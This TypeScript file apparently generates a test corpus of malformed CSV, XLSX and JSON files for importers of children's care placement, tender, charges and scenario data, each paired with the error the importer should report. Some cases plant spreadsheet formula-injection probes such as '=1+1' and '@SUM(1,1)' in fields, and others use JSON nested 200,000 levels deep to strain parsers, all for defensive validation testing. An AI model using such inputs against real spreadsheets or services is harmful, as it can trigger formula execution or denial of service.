  push('duplicate-bid-different-provider', 'duplicate', setCell(base, 1, 'provider', 'Someone Else'), {
    row: row(1),
    field: 'provider',
  });
  push('duplicate-bid-different-price', 'duplicate', setCell(base, 1, 'weekly_price', '4300'), {
    row: row(1),
    field: 'weekly_price',
  });
  push(
    'duplicate-home-in-lot',
    'duplicate',
    appendRows(base, [...base.rows[2]!.slice(0, 1), 'B9', ...base.rows[2]!.slice(2)]),
    {
      row: row(base.rows.length),
      field: 'home',
    },
  );
  for (const [k, f] of FORMULA_TEXTS.filter((x) => x.text.startsWith('=')).entries()) {
    const col = ['provider', 'home', 'bid_ref', 'urn'][k % 4]!;
    push(`formula-${f.id}-${col}`, 'formula', setCell(base, k, col, f.text), { row: row(k), field: col });
  }
  push('text-overlong-home', 'text', setCell(base, 5, 'home', 'H'.repeat(201)), {
    row: row(5),
    field: 'home',
  });
  await addTables(c, 'tenders', m, { xlsx: true });

  const csvText = tableToCsv(base).toString('utf8');
  const lines = csvText.split('\r\n');
  shapeCases(c, 'tenders', [
    { id: 'empty.csv', bytes: Buffer.alloc(0), expect: file(/empty/) },
    { id: 'bom-only.csv', bytes: Buffer.from([0xef, 0xbb, 0xbf]), expect: file(/no rows|empty/) },
    { id: 'header-only.csv', bytes: Buffer.from(`${lines[0]}\r\n`), expect: { row: 1, field: 'bid_ref' } },
    {
      id: 'windows-1252.csv',
      mutation: 'encoding',
      ...windows1252(tableToCsv(setCell(base, 3, 'home', 'Café Lodge')).toString('utf8')),
    },
    {
      id: 'utf-16-no-bom.csv',
      mutation: 'encoding',
      bytes: utf16leNoBom(csvText),
      expect: file(/binary data|not UTF-8/),
    },
    {
      id: 'unclosed-quote.csv',
      bytes: Buffer.from(lines.map((l, i) => (i === 4 ? l.replace(',', ',"') : l)).join('\r\n')),
      expect: file(/never closed/, 5),
    },
    {
      id: 'truncated-mid-row.csv',
      bytes: cutLastLine(tableToCsv(base), (l) => Math.floor(l.length / 2)),
      expect: { row: row(base.rows.length - 1), field: 'file', message: /cut short/ },
    },
  ]);
  const good = await tableToXlsx(base, { sheet: 'Bids' });
  for (const a of archiveCases(good, {
    bytes: tableToCsv(setCell(base, 0, 'beds', 'four')),
    expect: { row: row(0), field: 'beds' },
  })) {
    c.add('tenders', `archive/${a.id}.xlsx`, 'archive', a.bytes, a.expect);
  }
}

// ----- SSDA903 -------------------------------------------------------------------------------

export const SSDA903_YEAR = 2023;
export const SSDA903_GOOD = {
  header: () => read('test/fixtures/ssda903/good/2023/header.csv'),
  episodes: () => read('test/fixtures/ssda903/good/2023/episodes.csv'),
};

async function ssda903(c: Corpus) {
  const episodes = parseCsv(SSDA903_GOOD.episodes());
  const header = parseCsv(SSDA903_GOOD.header());
  const row = (i: number) => i + 2;
  const ep: TableMutation[] = [];
  const hd: TableMutation[] = [];
  const e = (id: string, mutation: string, table: Table, expect: Expectation) =>
    ep.push({ id, mutation, table, expect });
  const h = (id: string, mutation: string, table: Table, expect: Expectation) =>
    hd.push({ id, mutation, table, expect });
  // Episodes: 0 A1 closed (X1), 1 A1 open, 2 A2 closed (E5), 3 A3 open. Header: 0 A1, 1 A2, 2 A3.
  for (const col of ['CHILD', 'DECOM', 'RNE', 'LS', 'CIN', 'PLACE', 'PLACE_PROVIDER', 'DEC', 'REC']) {
    e(`header-missing-${col}`, 'header', dropColumns(episodes, col), { row: 1, field: col });
  }
  e('header-renamed-DECOM', 'header', renameColumn(episodes, 'DECOM', 'START'), { row: 1, field: 'DECOM' });
  for (const col of ['CHILD', 'SEX', 'DOB'])
    h(`header-missing-${col}`, 'header', dropColumns(header, col), { row: 1, field: col });

  for (const [k, col] of ['CHILD', 'DECOM', 'RNE', 'LS', 'CIN', 'PLACE', 'PLACE_PROVIDER'].entries()) {
    e(`required-${col}`, 'required', setCell(episodes, k % 3, col, ''), { row: row(k % 3), field: col });
  }
  e('required-REC-when-DEC', 'required', setCell(episodes, 2, 'REC', ''), { row: row(2), field: 'REC' });
  for (const col of ['CHILD', 'SEX', 'DOB'])
    h(`required-${col}`, 'required', setCell(header, 1, col, ''), { row: row(1), field: col });

  for (const [k, col] of ['RNE', 'LS', 'CIN', 'PLACE', 'PLACE_PROVIDER'].entries()) {
    e(`code-${col}`, 'code', setCell(episodes, k % 3, col, 'QQ'), { row: row(k % 3), field: col });
  }
  e('code-REC', 'code', setCell(episodes, 2, 'REC', 'X9'), { row: row(2), field: 'REC' });
  e('code-REC-without-DEC', 'code', setCell(episodes, 3, 'REC', 'X1'), { row: row(3), field: 'REC' });
  e('code-formula-PLACE', 'formula', setCell(episodes, 2, 'PLACE', '=1+1'), { row: row(2), field: 'PLACE' });
  e('code-formula-LS', 'formula', setCell(episodes, 0, 'LS', '@SUM(1,1)'), { row: row(0), field: 'LS' });
  h('code-SEX', 'code', setCell(header, 0, 'SEX', '3'), { row: row(0), field: 'SEX' });
  h('code-formula-SEX', 'formula', setCell(header, 2, 'SEX', '+1'), { row: row(2), field: 'SEX' });

  for (const [j, v] of ['31/02/2022', '2022-13-01', '1/1/22', 'soon', '32/01/2022', '29/02/2022'].entries()) {
    e(`date-DECOM-${j}`, 'date', setCell(episodes, j % 3, 'DECOM', v), { row: row(j % 3), field: 'DECOM' });
  }
  for (const [j, v] of ['31/04/2022', '2023/01/01'].entries()) {
    e(`date-DEC-${j}`, 'date', setCell(episodes, 2, 'DEC', v), { row: row(2), field: 'DEC' });
  }
  for (const [j, v] of ['30/02/2010', '2010-00-10', 'unknown'].entries()) {
    h(`date-DOB-${j}`, 'date', setCell(header, j, 'DOB', v), { row: row(j), field: 'DOB' });
  }
  e('order-DEC-before-DECOM', 'order', setCell(episodes, 2, 'DEC', '01/01/2022'), {
    row: row(2),
    field: 'DEC',
  });
  e('order-starts-after-year', 'order', setCell(episodes, 3, 'DECOM', '01/05/2023'), {
    row: row(3),
    field: 'DECOM',
  });
  e('order-ends-after-year', 'order', setCell(episodes, 2, 'DEC', '01/05/2023'), {
    row: row(2),
    field: 'DEC',
  });
  e('order-ends-before-year', 'order', setCells(episodes, 2, { DECOM: '01/01/2021', DEC: '01/02/2022' }), {
    row: row(2),
    field: 'DEC',
  });
  // The refusal names the episode that starts before the birth: A3's, row 5 of the episodes file.
  h('order-born-after-entering-care', 'order', setCell(header, 2, 'DOB', '01/01/2023'), {
    row: 5,
    field: 'DECOM',
  });
  e(
    'overlap',
    'overlap',
    appendRows(episodes, [
      'A2',
      '01/06/2022',
      'P',
      'V2',
      'N4',
      'U4',
      'PR4',
      '01/07/2022',
      'E5',
      '',
      '',
      '',
      '',
    ]),
    { row: row(4), field: 'DECOM' },
  );
  e(
    'overlap-open',
    'overlap',
    appendRows(episodes, ['A3', '01/12/2022', 'P', 'L1', 'N1', 'U4', 'PR1', '', '', '', '', '', '']),
    { row: row(4), field: 'DECOM' },
  );
  h('duplicate-child', 'duplicate', appendRows(header, header.rows[1]!), { row: row(3), field: 'CHILD' });
  e(
    'duplicate-child-not-in-header',
    'duplicate',
    appendRows(episodes, ['Z9', '01/06/2022', 'S', 'C2', 'N1', 'U4', 'PR1', '', '', '', '', '', '']),
    { row: row(4), field: 'CHILD' },
  );
  for (const [j, v] of ['-2023', '99999', 'abcd', '2023.5', '1e4'].entries()) {
    e(`number-YEAR-${j}`, 'number', setCell(extraColumn(episodes, 'YEAR', '2023'), j % 3, 'YEAR', v), {
      row: row(j % 3),
      field: 'YEAR',
    });
  }
  await addTables(c, 'ssda903', ep, { xlsx: false, part: 'episodes' });
  await addTables(c, 'ssda903', hd, { xlsx: false, part: 'header' });

  const epText = SSDA903_GOOD.episodes().toString('utf8');
  const epLines = epText.trimEnd().split(/\r?\n/);
  shapeCases(
    c,
    'ssda903',
    [
      { id: 'empty.csv', bytes: Buffer.alloc(0), expect: file(/empty/, 1) },
      { id: 'bom-only.csv', bytes: Buffer.from([0xef, 0xbb, 0xbf]), expect: file(/empty/, 1) },
      { id: 'blank-lines.csv', bytes: Buffer.from('\r\n\r\n\r\n'), expect: file(/empty/, 1) },
      { id: 'header-only.csv', bytes: Buffer.from(`${epLines[0]}\r\n`), expect: file(/no episodes/, 1) },
      {
        id: 'windows-1252-child.csv',
        mutation: 'encoding',
        bytes: cp1252(epText.replace('A3,', 'Aé3,')),
        expect: { row: 5, field: 'CHILD', message: /UTF-8/ },
      },
      {
        id: 'utf-16-bom.csv',
        mutation: 'encoding',
        bytes: utf16leBom(epText),
        expect: file(/not UTF-8/, 1),
      },
      {
        id: 'utf-16-no-bom.csv',
        mutation: 'encoding',
        bytes: utf16leNoBom(epText),
        expect: { row: 1, field: 'CHILD' },
      },
      {
        id: 'semicolon-delimited.csv',
        bytes: Buffer.from(epText.replace(/,/g, ';')),
        expect: { row: 1, field: 'CHILD' },
      },
      {
        id: 'truncated-in-date.csv',
        bytes: Buffer.from(`${epLines.slice(0, -1).join('\n')}\n${epLines.at(-1)!.slice(0, 8)}`),
        expect: { row: epLines.length, field: 'DECOM' },
      },
      {
        id: 'unclosed-quote.csv',
        bytes: Buffer.from(epLines.map((l, i) => (i === 3 ? l.replace(',', ',"') : l)).join('\n')),
        expect: { row: 4, field: 'DECOM' },
      },
    ],
    'episodes',
  );
  const hdText = SSDA903_GOOD.header().toString('utf8');
  shapeCases(
    c,
    'ssda903',
    [
      { id: 'empty.csv', bytes: Buffer.alloc(0), expect: file(/empty/, 1) },
      {
        id: 'windows-1252-child.csv',
        mutation: 'encoding',
        bytes: cp1252(hdText.replace('A2,', 'Aé2,')),
        expect: { row: 3, field: 'CHILD', message: /UTF-8/ },
      },
    ],
    'header',
  );
}

// ----- Charges: events.csv and contract.json --------------------------------------------------

export const CHARGES_GOOD = {
  contract: () => read('docs/examples/charges/contract.json'),
  events: () => read('docs/examples/charges/events.csv'),
};

async function charges(c: Corpus) {
  const events = parseCsv(CHARGES_GOOD.events());
  const row = (i: number) => i + 2;
  const idx = (pred: (r: string[]) => boolean) => events.rows.findIndex(pred);
  const col = (name: string) => colOf(events, name);
  const P1 = idx((r) => r[col('id')] === 'P1');
  const P2 = idx((r) => r[col('id')] === 'P2' && r[col('record')] === 'placement');
  const X = idx((r) => r[col('record')] === 'extra');
  const U = idx((r) => r[col('record')] === 'unavailability');
  const D = idx((r) => r[col('record')] === 'decommission');
  const m: TableMutation[] = [];
  const push = (id: string, mutation: string, table: Table, expect: Expectation) =>
    m.push({ id, mutation, table, expect });

  for (const name of ['record', 'id', 'bed', 'start_date']) {
    push(`header-missing-${name}`, 'header', dropColumns(events, name), { row: 1, field: name });
  }
  push('header-renamed-bed', 'header', renameColumn(events, 'bed', 'bed_id'), { row: 1, field: 'bed' });
  for (const [name, i] of [
    ['id', P1],
    ['bed', P2],
    ['la', P1],
    ['start_date', P2],
    ['need_segment', P1],
    ['reason', U],
    ['kind', U],
    ['weekly_amount', X],
    ['extra_type', X],
    ['bed', D],
    ['start_date', D],
  ] as const) {
    push(`required-${name}-${i}`, 'required', setCell(events, i, name, ''), { row: row(i), field: name });
  }
  for (const [name, i, v] of [
    ['record', P1, 'visit'],
    ['need_segment', P1, 'complex'],
    ['ending', P2, 'sudden'],
    ['kind', U, 'holiday'],
    ['extra_type', X, 'pony'],
    ['bed', P1, 'oak-9'],
    ['la', P2, 'atlantis'],
    ['la', P1, '=1+1'],
    ['record', P2, '@SUM(1,1)'],
  ] as const) {
    push(`code-${name}-${slug(v)}`, 'code', setCell(events, i, name, v), { row: row(i), field: name });
  }
  for (const [j, [name, i, v]] of (
    [
      ['start_date', P1, '2025-02-30'],
      ['start_date', P2, '31/02/2025'],
      ['start_date', P1, 'soon'],
      ['end_date', P2, '2026-13-01'],
      ['end_date', U, '00/00/0000'],
      ['start_date', X, '2025-06-31'],
    ] as const
  ).entries()) {
    push(`date-${name}-${j}`, 'date', setCell(events, i, name, v), { row: row(i), field: name });
  }
  push('order-end-before-start', 'order', setCell(events, P2, 'end_date', '2025-05-01'), {
    row: row(P2),
    field: 'end_date',
  });
  push('order-before-contract', 'order', setCell(events, P1, 'start_date', '2020-01-01'), {
    row: row(P1),
    field: 'start_date',
  });
  push('order-unavailability-reversed', 'order', setCell(events, U, 'end_date', '2026-03-01'), {
    row: row(U),
    field: 'end_date',
  });
  push(
    'overlap-same-bed',
    'overlap',
    appendRows(events, [
      'placement',
      'P99',
      'cedar-1',
      'ealing',
      '2025-05-01',
      '2025-06-01',
      'planned',
      'ebd-standard',
      '5',
      '',
      '',
      '',
      '',
    ]),
    { row: row(events.rows.length), field: 'start_date' },
  );
  push(
    'overlap-unavailable-while-occupied',
    'overlap',
    appendRows(events, [
      'unavailability',
      'U99',
      'cedar-1',
      '',
      '2025-05-01',
      '2025-05-10',
      '',
      '',
      '',
      'provider',
      'Repairs',
      '',
      '',
    ]),
    { row: row(events.rows.length), field: 'start_date' },
  );
  push(
    'duplicate-placement-id',
    'duplicate',
    appendRows(events, [
      'placement',
      'P1',
      'elm-3',
      'brent',
      '2025-05-01',
      '2025-06-01',
      'planned',
      'ebd-standard',
      '5',
      '',
      '',
      '',
      '',
    ]),
    { row: row(events.rows.length), field: 'id' },
  );
  push(
    'duplicate-extra-unknown-placement',
    'duplicate',
    appendRows(events, ['extra', 'P404', '', '', '', '', '', '', '', '', '', 'therapy', '100']),
    { row: row(events.rows.length), field: 'id' },
  );
  for (const [j, v] of ['-3', 'far', '1e999', 'Infinity'].entries()) {
    push(`number-distance-${j}`, 'number', setCell(events, P1, 'distance_miles', v), {
      row: row(P1),
      field: 'distance_miles',
    });
  }
  for (const [j, v] of ['-5', 'abc', '99999999999999999999', '£', '12.345'].entries()) {
    push(`number-weekly-${j}`, 'number', setCell(events, X, 'weekly_amount', v), {
      row: row(X),
      field: 'weekly_amount',
    });
  }
  await addTables(c, 'charges', m, { xlsx: false, part: 'events' });

  const text = CHARGES_GOOD.events().toString('utf8');
  const lines = text.trimEnd().split(/\r?\n/);
  shapeCases(
    c,
    'charges',
    [
      { id: 'empty.csv', bytes: Buffer.alloc(0), expect: { row: 1, field: 'record' } },
      { id: 'bom-only.csv', bytes: Buffer.from([0xef, 0xbb, 0xbf]), expect: { row: 1, field: 'record' } },
      {
        id: 'windows-1252-reason.csv',
        mutation: 'encoding',
        bytes: cp1252(text.replace('Staffing', 'Réparations')),
        expect: { row: row(U), field: 'reason', message: /UTF-8/ },
      },
      {
        id: 'utf-16-no-bom.csv',
        mutation: 'encoding',
        bytes: utf16leNoBom(text),
        expect: { row: 1, field: 'record' },
      },
      {
        id: 'truncated-in-date.csv',
        bytes: Buffer.from(
          `${lines.slice(0, -1).join('\n')}\n${lines.at(-1)!.slice(0, 'decommission,,elm-3,,2028-1'.length)}`,
        ),
        expect: { row: lines.length, field: 'start_date' },
      },
      {
        id: 'unclosed-quote.csv',
        bytes: Buffer.from(
          lines.map((l, i) => (i === 5 ? l.replace('placement,', 'placement,"') : l)).join('\n'),
        ),
        expect: { row: 6, field: 'file', message: /never closed/ },
      },
    ],
    'events',
  );

  // contract.json
  const contract = JSON.parse(CHARGES_GOOD.contract().toString('utf8')) as Record<string, unknown>;
  const json = (v: unknown) => Buffer.from(JSON.stringify(v, null, 2));
  // biome-ignore lint/suspicious/noExplicitAny: mutators reach into the parsed example at will
  const edit = (fn: (c: any) => void) => {
    const copy = structuredClone(contract);
    fn(copy);
    return json(copy);
  };
  const cases: [string, string, Buffer, Expectation][] = [
    ['empty', 'shape', Buffer.alloc(0), file(/not valid JSON/)],
    ['not-json', 'json', Buffer.from('id: wl-soft-block\nname: West London\n'), file(/not valid JSON/)],
    ['truncated', 'json', CHARGES_GOOD.contract().subarray(0, 400), file(/not valid JSON/)],
    [
      'trailing-comma',
      'json',
      Buffer.from(JSON.stringify(contract, null, 2).replace(/\n}$/, ',\n}')),
      file(/not valid JSON/),
    ],
    ['null', 'json', Buffer.from('null'), file(/expected object|object/i)],
    ['array', 'json', Buffer.from('[]'), file(/expected object|object/i)],
    [
      'deeply-nested',
      'json',
      Buffer.from(`${'['.repeat(200_000)}${']'.repeat(200_000)}`),
      file(/not valid JSON|expected object/i),
    ],
    [
      'windows-1252',
      'encoding',
      cp1252(JSON.stringify({ ...contract, name: 'Café block' }, null, 2)),
      file(/not UTF-8/, 3),
    ],
  ];
  for (const key of ['id', 'name', 'kind', 'provider', 'term', 'shares', 'lots', 'homes', 'vacancy']) {
    cases.push([`missing-${key}`, 'json', edit((x) => delete x[key]), { field: key }]);
  }
  cases.push(
    ['unknown-field', 'json', edit((x) => (x.colour = 'blue')), file(/colour/)],
    ['kind-unknown', 'json', edit((x) => (x.kind = 'lease')), { field: 'kind' }],
    ['term-start-impossible', 'json', edit((x) => (x.term.start = '2025-02-30')), { field: 'term.start' }],
    [
      'term-months-negative',
      'json',
      edit((x) => (x.term.initialMonths = -1)),
      { field: 'term.initialMonths' },
    ],
    [
      'term-months-fraction',
      'json',
      edit((x) => (x.term.initialMonths = 1.5)),
      { field: 'term.initialMonths' },
    ],
    [
      'term-months-text',
      'json',
      edit((x) => (x.term.initialMonths = 'three')),
      { field: 'term.initialMonths' },
    ],
    ['term-months-huge', 'json', edit((x) => (x.term.initialMonths = 1e12)), { field: 'term.initialMonths' }],
    ['price-negative', 'json', edit((x) => (x.lots[0].weeklyPrice = -5)), { field: 'lots[0].weeklyPrice' }],
    ['price-text', 'json', edit((x) => (x.lots[0].weeklyPrice = 'lots')), { field: 'lots[0].weeklyPrice' }],
    ['price-zero', 'json', edit((x) => (x.lots[0].weeklyPrice = 0)), { field: 'lots[0].weeklyPrice' }],
    [
      'price-huge',
      'json',
      edit((x) => (x.lots[0].weeklyPrice = '99999999999999999999')),
      { field: 'lots[0].weeklyPrice' },
    ],
    [
      'price-infinite',
      'json',
      Buffer.from(JSON.stringify(contract).replace('"£4,200.00"', '1e999')),
      { field: 'lots[0].weeklyPrice' },
    ],
    ['share-not-a-share', 'json', edit((x) => (x.shares[0].share = 'some')), { field: 'shares[0].share' }],
    ['shares-do-not-add-up', 'json', edit((x) => (x.shares[0].share = '2/7')), { field: 'shares' }],
    ['share-la-duplicate', 'json', edit((x) => (x.shares[1].la = 'barnet')), { field: 'shares[1].la' }],
    ['home-unknown-lot', 'json', edit((x) => (x.homes[0].lot = 'lot-9')), { field: 'homes[0].lot' }],
    [
      'bed-duplicate',
      'json',
      edit((x) => (x.homes[1].beds[0] = 'cedar-1')),
      { field: 'homes[1].beds[0].id' },
    ],
    ['beds-empty', 'json', edit((x) => (x.homes[0].beds = [])), { field: 'homes[0].beds' }],
    // A bed is an id or { id, from }: zod names the bed, not which of the two shapes went wrong.
    [
      'bed-from-impossible',
      'json',
      edit((x) => (x.homes[0].beds[0] = { id: 'cedar-1', from: '31/02/2026' })),
      { field: 'homes[0].beds[0]' },
    ],
    ['cap-zero', 'json', edit((x) => (x.maxBedsPerSetting = 0)), { field: 'maxBedsPerSetting' }],
    ['uplift-kind', 'json', edit((x) => (x.uplift = { kind: 'magic' })), { field: 'uplift.kind' }],
    ['uplift-percent-text', 'json', edit((x) => (x.uplift.percent = 'lots')), { field: 'uplift.percent' }],
    ['vacancy-hold-negative', 'json', edit((x) => (x.vacancy.holdDays = -28)), { field: 'vacancy.holdDays' }],
    [
      'vacancy-after-hold',
      'json',
      edit((x) => (x.vacancy.afterHold = 'keep')),
      { field: 'vacancy.afterHold' },
    ],
    [
      'spot-segment',
      'json',
      edit((x) => (x.spotRates[0].segment = 'deluxe')),
      { field: 'spotRates[0].segment' },
    ],
    [
      'spot-duplicate',
      'json',
      edit((x) => (x.spotRates[1].from = '2025-01-01')),
      { field: 'spotRates[1].from' },
    ],
    [
      'break-notice-negative',
      'json',
      edit((x) => (x.breakClause.noticeMonths = -6)),
      { field: 'breakClause.noticeMonths' },
    ],
    ['provider-formula', 'json', edit((x) => (x.provider.name = 123)), { field: 'provider.name' }],
  );
  for (const [id, mutation, bytes, expect] of cases)
    c.add('charges', `contract/${id}.json`, mutation, bytes, expect, 'contract');
}

// ----- Simulation scenario files -------------------------------------------------------------

export const SCENARIO_GOOD = () => read('docs/examples/simulation/west-london-soft-block.json');

async function scenario(c: Corpus) {
  const good = JSON.parse(SCENARIO_GOOD().toString('utf8')) as Record<string, unknown>;
  // biome-ignore lint/suspicious/noExplicitAny: mutators reach into the parsed example at will
  const edit = (fn: (s: any) => void) => {
    const copy = structuredClone(good);
    fn(copy);
    return Buffer.from(JSON.stringify(copy, null, 2));
  };
  const cases: [string, string, Buffer, Expectation][] = [
    ['empty', 'shape', Buffer.alloc(0), file(/not valid JSON/)],
    ['not-json', 'json', Buffer.from('name = "West London"\n'), file(/not valid JSON/)],
    ['truncated', 'json', SCENARIO_GOOD().subarray(0, 700), file(/not valid JSON/)],
    ['comment', 'json', Buffer.from(`// my scenario\n${JSON.stringify(good)}`), file(/not valid JSON/)],
    [
      'windows-1252',
      'encoding',
      cp1252(JSON.stringify({ ...good, name: 'Café block' }, null, 2)),
      file(/not UTF-8/, 3),
    ],
    ['null', 'json', Buffer.from('null'), file(/object/i)],
    ['string', 'json', Buffer.from('"scenario"'), file(/object/i)],
    [
      'deeply-nested',
      'json',
      Buffer.from(`{"name":${'['.repeat(200_000)}${']'.repeat(200_000)}}`),
      { field: 'name' },
    ],
    [
      'bom-and-bad-beds',
      'encoding',
      Buffer.from(`\uFEFF${JSON.stringify({ ...good, block: { ...(good.block as object), beds: -1 } })}`),
      { field: 'block.beds' },
    ],
  ];
  for (const key of ['name', 'startDate', 'termMonths', 'las', 'stayLength', 'matching', 'block', 'spot']) {
    cases.push([`missing-${key}`, 'json', edit((x) => delete x[key]), { field: key }]);
  }
  cases.push(
    ['unknown-field', 'json', edit((x) => (x.colour = 'blue')), { field: 'colour' }],
    ['misspelt-nested', 'json', edit((x) => (x.block.weeklyPound = 5)), { field: 'block.weeklyPound' }],
    ['start-impossible', 'json', edit((x) => (x.startDate = '2025-02-30')), { field: 'startDate' }],
    ['start-words', 'json', edit((x) => (x.startDate = 'next spring')), { field: 'startDate' }],
    ['term-zero', 'json', edit((x) => (x.termMonths = 0)), { field: 'termMonths' }],
    ['term-negative', 'json', edit((x) => (x.termMonths = -12)), { field: 'termMonths' }],
    ['term-fraction', 'json', edit((x) => (x.termMonths = 1.5)), { field: 'termMonths' }],
    ['term-huge', 'json', edit((x) => (x.termMonths = 1e9)), { field: 'termMonths' }],
    ['term-text', 'json', edit((x) => (x.termMonths = '60')), { field: 'termMonths' }],
    ['las-empty', 'json', edit((x) => (x.las = [])), { field: 'las' }],
    ['la-share-missing', 'json', edit((x) => delete x.las[0].share), { field: 'las[0].share' }],
    ['la-shares-sum', 'json', edit((x) => (x.las[0].share = 0.5)), { field: 'las[6].share' }],
    [
      'la-referrals-negative',
      'json',
      edit((x) => (x.las[2].referralsPerYear = -4)),
      { field: 'las[2].referralsPerYear' },
    ],
    [
      'la-referrals-text',
      'json',
      edit((x) => (x.las[2].referralsPerYear = 'four')),
      { field: 'las[2].referralsPerYear' },
    ],
    ['la-code-duplicate', 'json', edit((x) => (x.las[1].code = 'BAR')), { field: 'las[1].code' }],
    ['stay-kind', 'json', edit((x) => (x.stayLength = { kind: 'forever' })), { field: 'stayLength.kind' }],
    [
      'stay-mean-negative',
      'json',
      edit((x) => (x.stayLength.meanDays = -300)),
      { field: 'stayLength.meanDays' },
    ],
    [
      'matching-probability',
      'json',
      edit((x) => (x.matching.probability = 1.5)),
      { field: 'matching.probability' },
    ],
    ['beds-huge', 'json', edit((x) => (x.block.beds = 1e9)), { field: 'block.beds' }],
    ['price-negative', 'json', edit((x) => (x.block.weeklyPounds = -5200)), { field: 'block.weeklyPounds' }],
    ['price-text', 'json', edit((x) => (x.block.weeklyPounds = '£5,200')), { field: 'block.weeklyPounds' }],
    [
      'price-infinite',
      'json',
      Buffer.from(JSON.stringify(good).replace('"weeklyPounds":5200', '"weeklyPounds":1e999')),
      { field: 'block.weeklyPounds' },
    ],
    ['hold-negative', 'json', edit((x) => (x.block.holdDays = -1)), { field: 'block.holdDays' }],
    [
      'void-rule',
      'json',
      edit((x) => (x.block.voidRule = { kind: 'refund' })),
      { field: 'block.voidRule.kind' },
    ],
    [
      'retainer-over-100',
      'json',
      edit((x) => (x.block.voidRule.percent = 150)),
      { field: 'block.voidRule.percent' },
    ],
    ['starts-as', 'json', edit((x) => (x.block.startsAs = 'haunted')), { field: 'block.startsAs' }],
    [
      'spot-probability',
      'json',
      edit((x) => (x.spot.outOfAreaProbability = 2)),
      { field: 'spot.outOfAreaProbability' },
    ],
    [
      'needs-mix-unknown',
      'json',
      edit((x) => (x.needsMix = { 'ebd-standard': 0.6, unicorns: 0.4 })),
      { field: 'needsMix.unicorns' },
    ],
    ['runs-negative', 'json', edit((x) => (x.simulation.runs = -1)), { field: 'simulation.runs' }],
    ['formula-name', 'json', edit((x) => (x.name = 42)), { field: 'name' }],
  );
  for (const [id, mutation, bytes, expect] of cases) c.add('scenario', `${id}.json`, mutation, bytes, expect);
}

// ----- Hand-made files -----------------------------------------------------------------------

interface HandMade {
  importer: ImporterName;
  file: string;
  part?: CorpusFile['part'];
  mutation: string;
  row?: number;
  field: string;
  message?: string;
}

function handMade(c: Corpus) {
  const dir = join(ROOT, 'test', 'corpus', 'files');
  const list = JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8')) as { files: HandMade[] };
  for (const f of list.files) {
    c.add(
      f.importer,
      `hand-made/${f.file}`,
      f.mutation,
      readFileSync(join(dir, f.file)),
      {
        field: f.field,
        ...(f.row === undefined ? {} : { row: f.row }),
        ...(f.message ? { message: new RegExp(f.message) } : {}),
      },
      f.part,
    );
  }
}

/** The valid examples as tables and parsed JSON (what the fuzz tests mutate). */
export function exampleTables() {
  const list = generateOfstedList('la-list', 5, 4242, referenceData());
  return {
    ofsted: { header: list.header, rows: list.rows } as Table,
    pds: parseCsv(read('docs/examples/placements-standard/referrals-and-placements.csv')),
    bids: parseCsv(read('docs/examples/tenders/bids.csv')),
    ssdaEpisodes: parseCsv(SSDA903_GOOD.episodes()),
    ssdaHeader: parseCsv(SSDA903_GOOD.header()),
    events: parseCsv(CHARGES_GOOD.events()),
    contract: JSON.parse(CHARGES_GOOD.contract().toString('utf8')),
    scenario: JSON.parse(SCENARIO_GOOD().toString('utf8')),
  };
}

/** The valid files the corpus is made from: each must be accepted, so a refusal is the mutation's doing. */
export async function validExamples(): Promise<
  { importer: ImporterName; name: string; part?: CorpusFile['part']; bytes: Buffer }[]
> {
  const ofstedList = generateOfstedList('la-list', 5, 4242, referenceData());
  const ofstedTable = { header: ofstedList.header, rows: ofstedList.rows };
  const pds = parseCsv(read('docs/examples/placements-standard/referrals-and-placements.csv'));
  const bids = parseCsv(read('docs/examples/tenders/bids.csv'));
  return [
    {
      importer: 'ssda903',
      name: 'test/fixtures/ssda903/good/2023',
      part: 'episodes',
      bytes: SSDA903_GOOD.episodes(),
    },
    { importer: 'ofsted', name: 'generated list (CSV)', bytes: tableToCsv(ofstedTable) },
    {
      importer: 'ofsted',
      name: 'generated list (XLSX)',
      bytes: await tableToXlsx(ofstedTable, { sheet: 'Providers' }),
    },
    { importer: 'placements-standard', name: 'docs/examples (CSV)', bytes: tableToCsv(pds) },
    {
      importer: 'placements-standard',
      name: 'docs/examples (XLSX)',
      bytes: await tableToXlsx(pds, { sheet: 'Data collection' }),
    },
    { importer: 'charges', name: 'docs/examples events.csv', part: 'events', bytes: CHARGES_GOOD.events() },
    {
      importer: 'charges',
      name: 'docs/examples contract.json',
      part: 'contract',
      bytes: CHARGES_GOOD.contract(),
    },
    { importer: 'tenders', name: 'docs/examples (CSV)', bytes: tableToCsv(bids) },
    { importer: 'tenders', name: 'docs/examples (XLSX)', bytes: await tableToXlsx(bids, { sheet: 'Bids' }) },
    { importer: 'scenario', name: 'docs/examples west-london-soft-block.json', bytes: SCENARIO_GOOD() },
  ];
}

/** Every file of the corpus, built in memory (deterministic: the same bytes on every run). */
export async function buildCorpus(): Promise<CorpusFile[]> {
  const c = new Corpus();
  await ssda903(c);
  await ofsted(c);
  await placementsStandard(c);
  await charges(c);
  await tenders(c);
  await scenario(c);
  handMade(c);
  return c.files;
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const out = join(ROOT, '.cache', 'corpus');
  rmSync(out, { recursive: true, force: true });
  const files = await buildCorpus();
  for (const f of files) {
    mkdirSync(dirname(join(out, f.name)), { recursive: true });
    writeFileSync(join(out, f.name), f.bytes);
  }
  writeFileSync(
    join(out, 'manifest.json'),
    JSON.stringify(
      files.map((f) => ({
        ...f,
        bytes: f.bytes.length,
        expect: { ...f.expect, message: f.expect.message?.source },
      })),
      null,
      2,
    ),
  );
  const counts = Object.fromEntries(IMPORTERS.map((i) => [i, files.filter((f) => f.importer === i).length]));
  process.stdout.write(`wrote ${files.length} files to ${out}: ${JSON.stringify(counts)}\n`);
}
